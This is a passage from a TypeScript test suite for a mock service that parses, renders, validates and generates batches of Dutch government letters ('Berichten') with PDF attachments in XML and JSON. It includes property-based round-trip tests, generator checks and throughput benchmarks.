    expect([root.ns, root.local]).toEqual([NS_BATCH, 'Berichten']);
    expect(root.children.map((c) => [c.ns, c.local])).toEqual([
      [NS_BATCH, 'BatchInformatie'],
      [NS_BERICHT, 'Bericht'],
    ]);
    expect(child(root, 'BatchInformatie')?.children.map((c) => [c.ns, c.local])).toEqual([
      [NS_BATCH, 'BatchID'],
      [NS_BATCH, 'AanmaakDatum'],
      [NS_BATCH, 'BerichtLeverancierID'],
    ]);
    const bericht = child(root, 'Bericht');
    expect(bericht?.children.map((c) => c.local)).toEqual(['BerichtInformatie', 'Bijlagen']);
    const info = child(bericht, 'BerichtInformatie');
    expect(info?.children[0]?.local).toBe('BatchID');
    expect(info?.children.every((c) => c.ns === NS_BERICHT)).toBe(true);
    expect(child(child(bericht, 'Bijlagen'), 'Bijlage')?.children.map((c) => [c.ns, c.local])).toEqual([
      [NS_BERICHT, 'Inhoud'],
      [NS_BERICHT, 'BijlageType'],
      [NS_BERICHT, 'Omschrijving'],
      [NS_BERICHT, 'Volgorde'],
    ]);
  });

  /** Text without the characters XML 1.0 cannot carry (the renderer replaces those). */
  const text = (maxLength: number): fc.Arbitrary<string> =>
    fc.oneof(
      fc
        .string({ unit: 'binary', maxLength })
        .map((s) => s.replace(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '')),
      fc.string({
        unit: fc.constantFrom(
          'a',
          ' ',
          '<',
          '>',
          '&',
          '"',
          "'",
          ']]>',
          '\r',
          '\n',
          '\r\n',
          '\t',
          '\\r\\n',
          'é',
          '😀',
          '&amp;',
          '<!--',
          '-->',
          '<![CDATA[',
        ),
        maxLength,
      }),
    );
  const opt = <T>(a: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> => fc.option(a, { nil: undefined });
  const bijlageArb: fc.Arbitrary<BijlageInput> = fc.record({
    Inhoud: fc.base64String({ maxLength: 40 }),
    BijlageType: text(5),
    Omschrijving: text(20),
    Volgorde: text(3),
  });
  const berichtArb: fc.Arbitrary<BerichtInput> = fc
    .record({
      info: fc.record({
        BatchID: opt(text(10)),
        BerichtID: text(40),
        BerichtType: text(10),
        PublicatieDatum: opt(text(10)),
        EindDatumHandelingsTermijn: opt(text(10)),
        Onderwerp: text(30),
        BerichtTekst: text(80),
        Referentie: opt(text(10)),
        GebruikerID: text(10),
        SoortGebruiker: text(8),
      }),
      bijlagen: opt(fc.array(bijlageArb, { minLength: 1, maxLength: 3 })),
    })
    .map(({ info, bijlagen }) => {
      const clean = Object.fromEntries(Object.entries(info).filter(([, v]) => v !== undefined));
      return (bijlagen
        ? { BerichtInformatie: clean, Bijlagen: bijlagen }
        : { BerichtInformatie: clean }) as unknown as BerichtInput;
    });
  const batchArb: fc.Arbitrary<BatchInput> = fc.record({
    BatchInformatie: fc.record({ BatchID: text(20), AanmaakDatum: text(20), BerichtLeverancierID: text(20) }),
    Bericht: fc.array(berichtArb, { minLength: 0, maxLength: 4 }),
  });

  function expectSame(raw: RawBatch, b: BatchInput): void {
    expect(raw.header).toEqual(b.BatchInformatie);
    expect(raw.batchErrors).toEqual([]);
    expect(raw.letters).toHaveLength(b.Bericht.length);
    raw.letters.forEach((l, k) => {
      const src = b.Bericht[k];
      expect(l.structureErrors).toEqual([]);
      expect(l.fields).toEqual(src?.BerichtInformatie);
      expect(l.bijlagen).toEqual(src?.Bijlagen ?? []);
    });
  }

  it('round-trips any batch through XML exactly (property)', () => {
    fc.assert(
      fc.property(batchArb, (b) => expectSame(parseBerichtenXml(renderBerichtenXml(b)), b)),
      { numRuns: 300 },
    );
  });

  it('round-trips any batch through JSON exactly (property)', () => {
    fc.assert(
      fc.property(batchArb, (b) => expectSame(parseBerichtenJson(JSON.parse(JSON.stringify(berichtenJson(b)))), b)),
      { numRuns: 300 },
    );
  });

  it('generated batches validate as Verwerkt through both formats (property over seeds)', () => {
    fc.assert(
      fc.property(fc.integer(), fc.integer({ min: 1, max: 20 }), fc.boolean(), (seed, n, repeat) => {
        const b = generateBatch({
          seed,
          afnemerOin: OIN,
          berichtType: 'AANSLAG',
          letters: n,
          now: NOW,
          population: pop,
          attachmentShare: 0.5,
          attachmentBytes: 3000,
          repeatBatchId: repeat,
        });
        expect(codes(viaXml(b))).toEqual(Array<VerwerkingsCode>(n).fill('Verwerkt'));
        expect(codes(viaJson(b))).toEqual(Array<VerwerkingsCode>(n).fill('Verwerkt'));
      }),
      { numRuns: 60 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Generator
// ---------------------------------------------------------------------------------------------

describe('generateBatch', () => {
  const base = { seed: 11, afnemerOin: OIN, berichtType: 'VAIB', letters: 200, now: NOW, population: pop } as const;

  it('is deterministic per seed and differs between seeds', () => {
    expect(generateBatch(base)).toEqual(generateBatch(base));
    expect(generateBatch({ ...base, seed: 12 }).Bericht[0]?.BerichtInformatie.BerichtID).not.toBe(
      generateBatch(base).Bericht[0]?.BerichtInformatie.BerichtID,
    );
  });

  it('makes v4-shaped GUIDs, unique, and ~1 kB letters with literal \\r\\n line breaks', () => {
    const b = generateBatch(base);
    const ids = b.Bericht.map((l) => l.BerichtInformatie.BerichtID);
    for (const id of [...ids, b.BatchInformatie.BatchID])
      expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(new Set(ids).size).toBe(ids.length);
    const perLetter = Buffer.byteLength(renderBerichtenXml(b)) / b.Bericht.length;
    expect(perLetter).toBeGreaterThan(900);
    expect(perLetter).toBeLessThan(1100);
    expect(b.Bericht[0]?.BerichtInformatie.BerichtTekst).toContain('\\r\\n');
    expect(b.Bericht[0]?.BerichtInformatie.BatchID).toBe(b.BatchInformatie.BatchID);
    expect(
      generateBatch({ ...base, repeatBatchId: false, publicatieDatum: false }).Bericht[0]?.BerichtInformatie,
    ).not.toHaveProperty('BatchID');
    expect(generateBatch({ ...base, textChars: 123 }).Bericht[0]?.BerichtInformatie.BerichtTekst).toHaveLength(123);
    const g = createPrng(1);
    expect(guidFrom(g)).not.toBe(guidFrom(g));
  });

  it('addresses letters to recipients unless told otherwise', () => {
    const all = generateBatch(base);
    expect(all.Bericht.every((l) => pop.wantsLettersFrom(l.BerichtInformatie.GebruikerID, OIN, base.now))).toBe(true);
    const mixed = generateBatch({ ...base, letters: 1000, recipientShare: 0.7 });
    const share =
      mixed.Bericht.filter((l) => pop.wantsLettersFrom(l.BerichtInformatie.GebruikerID, OIN, base.now)).length / 1000;
    expect(Math.abs(share - 0.7)).toBeLessThan(0.06);
    const none = generateBatch({ ...base, letters: 20, recipientShare: 0 });
    expect(new Set(codes(viaXml(none)))).toEqual(new Set(['NietActiefOfGeabonneerd']));
  });

  it('attachments: share within tolerance, at most 95 %, valid PDFs of the exact size', () => {
    const b = generateBatch({ ...base, letters: 1000, attachmentShare: 0.3, attachmentBytes: 5000 });
    const withAtt = b.Bericht.filter((l) => l.Bijlagen?.length);
    expect(Math.abs(withAtt.length / 1000 - 0.3)).toBeLessThan(0.06);
    const pdf = Buffer.from(withAtt[0]?.Bijlagen?.[0]?.Inhoud ?? '', 'base64');
    expect(pdf.length).toBe(5000);
    expect(() => generateBatch({ ...base, attachmentShare: 0.96 })).toThrow(/at most 95 %/);
    const two = generateBatch({
      ...base,
      letters: 5,
      attachmentShare: 0.95,
      attachmentsPerLetter: 2,
      attachmentBytes: 300_000,
    });
    expect(new Set(codes(viaXml(two))).has('BijlageTeGroot')).toBe(true);
  });

  it('minimalPdf builds a structurally valid PDF of exactly the requested size', () => {
    for (const size of [MIN_PDF_BYTES, MIN_PDF_BYTES + 1, 999, 1000, 1001, 9_999, 10_000, 400_000, 500_000]) {
      const pdf = minimalPdf(size);
      expect(pdf.length, String(size)).toBe(size);
      const s = pdf.toString('latin1');
      expect(s.startsWith('%PDF-1.7\n')).toBe(true);
      expect(s.endsWith('%%EOF\n')).toBe(true);
      // The xref offsets point at their objects, and startxref at the xref table.
      const startxref = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(s)?.[1]);
      expect(s.slice(startxref, startxref + 4)).toBe('xref');
      const offsets = [...s.slice(startxref).matchAll(/^(\d{10}) 00000 n $/gm)].map((m) => Number(m[1]));
      offsets.forEach((o, k) => expect(s.slice(o, o + 7)).toBe(`${k + 1} 0 obj`));
      const len = Number(/\/Length (\d+)/.exec(s)?.[1]);
      const streamStart = s.indexOf('stream\n') + 7;
      expect(s.slice(streamStart + len, streamStart + len + 10)).toBe('\nendstream');
    }
    expect(() => minimalPdf(MIN_PDF_BYTES - 1)).toThrow(RangeError);
  });
});

// ---------------------------------------------------------------------------------------------
// Throughput (the mock must parse ~20 MB/s on one core; measured far above, so this guards regressions)
// ---------------------------------------------------------------------------------------------

describe('throughput', () => {
  function mbPerSecond(bytes: number, fn: () => void): number {
    fn();
    let best = Infinity;
    for (let i = 0; i < 5; i++) {
      const t0 = performance.now();
      fn();
      best = Math.min(best, performance.now() - t0);
    }
    return bytes / 1e6 / (best / 1000);
  }

  it('parses and validates a 1000-letter batch of ~1 kB letters at > 20 MB/s (XML and JSON)', () => {
    const b = generateBatch({
      seed: 5,
      afnemerOin: OIN,
      berichtType: 'VAIB',
      letters: 1000,
      now: NOW,
      population: pop,
    });
    const xml = renderBerichtenXml(b);
    const json = JSON.stringify(berichtenJson(b));
    expect(mbPerSecond(Buffer.byteLength(xml), () => validateBatch(parseBerichtenXml(xml), ctx()))).toBeGreaterThan(20);
    expect(
      mbPerSecond(Buffer.byteLength(json), () => validateBatch(parseBerichtenJson(JSON.parse(json)), ctx())),
    ).toBeGreaterThan(20);
  });

  it('parses and validates letters with 400 kB attachments at > 20 MB/s', () => {
    const b = generateBatch({
      seed: 6,
      afnemerOin: OIN,
      berichtType: 'VAIB',
      letters: 20,
      now: NOW,
      population: pop,
      attachmentShare: 0.95,
      attachmentBytes: 400_000,
    });
    const xml = renderBerichtenXml(b);
    expect(mbPerSecond(Buffer.byteLength(xml), () => validateBatch(parseBerichtenXml(xml), ctx()))).toBeGreaterThan(20);
  });
});
